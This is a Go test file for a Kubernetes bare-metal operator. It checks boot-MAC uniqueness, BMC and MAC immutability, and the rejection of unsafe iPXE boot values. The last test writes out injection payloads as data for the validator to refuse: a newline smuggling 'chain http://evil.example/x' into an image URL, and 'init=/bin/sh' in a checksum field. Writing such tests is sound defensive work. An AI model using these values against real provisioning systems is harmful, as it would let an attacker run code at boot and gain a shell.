package metalmachine_test

import (
	"context"
	"testing"

	metal3v1 "github.com/metal3-io/baremetal-operator/apis/metal3.io/v1alpha1"
	. "github.com/onsi/gomega"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"

	"github.com/yonder-dev/yonder/infrastructure-baremetal/reconcilers/baremetalhost"
	"github.com/yonder-dev/yonder/test/harness"
)

// managedHost returns a BareMetalHost that Yonder manages, with a Redfish BMC and boot MAC mac.
func managedHost(ns, name, mac string) *metal3v1.BareMetalHost {
	return &metal3v1.BareMetalHost{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name, Labels: map[string]string{baremetalhost.ManagedLabel: "true"}},
		Spec: metal3v1.BareMetalHostSpec{BMC: metal3v1.BMCDetails{Address: "redfish://192.0.2.1/redfish/v1/Systems/" + name, CredentialsName: "bmc"},
			BootMACAddress: mac},
	}
}

// Issue 17: a boot MAC is unique among the hosts Yonder manages, in every namespace. The API server
// refuses a second managed host with a MAC another one has — in another namespace, in upper case (the
// CRD's pattern admits only colons as separators) — and names the host that has it; a valid host with
// a MAC of its own is accepted. A host Yonder does not manage is left to its own controller, but
// handing it to Yonder (the label) is checked like a create.
func TestBareMetalHostBootMACIsUniqueAcrossNamespaces(t *testing.T) {
	g := NewWithT(t)
	ctx := context.Background()
	ns1 := env.CreateNamespace(ctx, t, "mac-a").Name
	ns2 := env.CreateNamespace(ctx, t, "mac-b").Name
	g.Expect(env.Create(ctx, managedHost(ns1, "first", "52:54:00:a7:00:01"))).To(Succeed(), "a valid host")

	err := env.Create(ctx, managedHost(ns2, "second", "52:54:00:A7:00:01"))
	g.Expect(harness.FieldCauses(g, err)).To(ConsistOf("spec.bootMACAddress: FieldValueInvalid"))
	g.Expect(err).To(MatchError(ContainSubstring("is already the boot MAC of BareMetalHost " + ns1 + "/first")))
	g.Expect(env.Create(ctx, managedHost(ns2, "second", "52:54:00:a7:00:02"))).To(Succeed(), "a MAC of its own")

	other := managedHost(ns2, "metal3s", "52:54:00:a7:00:01")
	delete(other.Labels, baremetalhost.ManagedLabel)
	g.Expect(env.Create(ctx, other)).To(Succeed(), "another controller's host")
	other.Labels = map[string]string{baremetalhost.ManagedLabel: "true"}
	g.Expect(env.Update(ctx, other)).To(MatchError(ContainSubstring("is already the boot MAC of BareMetalHost " + ns1 + "/first")))
}

// Metal3's immutability rules hold for managed hosts: the BMC address cannot change once set unless the
// host is registering (or detached), the boot MAC never; while a machine has claimed the host its BMC
// address and credentials cannot change at all.
func TestBareMetalHostBMCAndBootMACAreImmutable(t *testing.T) {
	g := NewWithT(t)
	ctx := context.Background()
	ns := env.CreateNamespace(ctx, t, "bmc").Name
	h := managedHost(ns, "h", "52:54:00:a7:01:01")
	g.Expect(env.Create(ctx, h)).To(Succeed())
	h.Status = metal3v1.BareMetalHostStatus{OperationalStatus: metal3v1.OperationalStatusOK, Provisioning: metal3v1.ProvisionStatus{State: metal3v1.StateAvailable}}
	g.Expect(env.Status().Update(ctx, h)).To(Succeed())

	moved := h.DeepCopy()
	moved.Spec.BMC.Address = "redfish://192.0.2.99/redfish/v1/Systems/1"
	err := env.Update(ctx, moved)
	g.Expect(harness.FieldCauses(g, err)).To(ConsistOf("spec.bmc.address: FieldValueForbidden"))
	g.Expect(err).To(MatchError(ContainSubstring("BMC address can not be changed if the BMH is not in the Registering state")))
	remac := h.DeepCopy()
	remac.Spec.BootMACAddress = "52:54:00:a7:01:02"
	g.Expect(env.Update(ctx, remac)).To(MatchError(ContainSubstring("spec.bootMACAddress: Forbidden: bootMACAddress can not be changed once it is set")))
	respelled := h.DeepCopy()
	respelled.Spec.BootMACAddress = "52:54:00:A7:01:01"
	g.Expect(env.Update(ctx, respelled)).To(Succeed(), "the same MAC spelled differently")
	h = respelled

	// Registering: the address may be corrected (Metal3's rule), unless the host is claimed.
	h.Status.Provisioning.State = metal3v1.StateRegistering
	g.Expect(env.Status().Update(ctx, h)).To(Succeed())
	h.Spec.BMC.Address = "redfish://192.0.2.2/redfish/v1/Systems/1"
	g.Expect(env.Update(ctx, h)).To(Succeed())
	h.Spec.ConsumerRef = &corev1.ObjectReference{APIVersion: "infrastructure.cluster.x-k8s.io/v1alpha1", Kind: "YonderMetalMachine", Name: "m", UID: "m-uid"}
	g.Expect(env.Update(ctx, h)).To(Succeed())
	claimed := h.DeepCopy()
	claimed.Spec.BMC.Address = "redfish://192.0.2.3/redfish/v1/Systems/1"
	claimed.Spec.BMC.CredentialsName = "other"
	err = env.Update(ctx, claimed)
	g.Expect(harness.FieldCauses(g, err)).To(ConsistOf("spec.bmc.address: FieldValueForbidden", "spec.bmc.credentialsName: FieldValueForbidden"))
	g.Expect(err).To(MatchError(ContainSubstring("cannot change while the host is claimed by YonderMetalMachine m; delete its Machine first")))
	claimed.Spec.ConsumerRef = nil
	g.Expect(harness.FieldCauses(g, env.Update(ctx, claimed))).To(ConsistOf("spec.bmc.address: FieldValueForbidden", "spec.bmc.credentialsName: FieldValueForbidden"),
		"the release does not carry an edit")
}

// Every value of a managed host that goes into its iPXE script stays one word of it: a newline in the
// image URL (which would start a command of the attacker's) is refused on create and on update.
func TestBareMetalHostBootValuesFitTheIPXEScript(t *testing.T) {
	g := NewWithT(t)
	ctx := context.Background()
	ns := env.CreateNamespace(ctx, t, "ipxe").Name
	h := managedHost(ns, "h", "52:54:00:a7:02:01")
	h.Spec.Image = &metal3v1.Image{URL: "http://images.example/live.iso\nchain http://evil.example/x", DiskFormat: ptr.To("live-iso")}
	err := env.Create(ctx, h)
	g.Expect(harness.FieldCauses(g, err)).To(ConsistOf("spec.image.url: FieldValueInvalid"))
	g.Expect(err).To(MatchError(ContainSubstring("InvalidBootParameter: spec.image.url holds control character '\\n'")))

	h.Spec.Image.URL = "http://images.example/live.iso"
	g.Expect(env.Create(ctx, h)).To(Succeed())
	h.Spec.Image.Checksum, h.Spec.Image.ChecksumType = "abc init=/bin/sh", metal3v1.SHA256
	g.Expect(env.Update(ctx, h)).To(MatchError(ContainSubstring("spec.image.checksum holds a blank")))
}
